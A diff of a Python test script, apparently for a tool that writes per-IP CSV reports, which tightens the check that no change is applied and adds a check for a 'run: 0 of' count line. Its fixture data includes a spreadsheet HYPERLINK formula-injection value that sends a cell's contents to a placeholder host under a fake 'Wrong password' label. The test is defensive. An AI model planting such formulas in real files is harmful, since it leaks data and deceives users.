@@ -312,8 +312,12 @@ def main():
             '10.69.9.13 =HYPERLINK("http://x.example/"&A1,"Wrong password - click")',
         ]), sorted(l.rstrip("\r") for l in text.splitlines()))
         check("upgrade: no control character", ([], []), (control_characters(out), control_characters(err)))
-        check("upgrade: nothing applied", [], [l for l in err.decode(errors="replace").splitlines()
-                                               if "applied" in l and "not applied" not in l])
+        err_lines = err.decode(errors="replace").splitlines()
+        check("upgrade: nothing applied", [], [l for l in err_lines
+                                               if "applied" in l and "not applied" not in l
+                                               and not l.startswith("run: ")])
+        check("upgrade: the count line applies none", True,
+              any(l.startswith("run: 0 of ") for l in err_lines))
         with open(report, newline="", encoding="utf-8") as f:
             rows = {r["ip"]: r for r in csv.DictReader(f)}
         check("report: the victim as it was and is", ("1.00", "ok", "not_applied"),
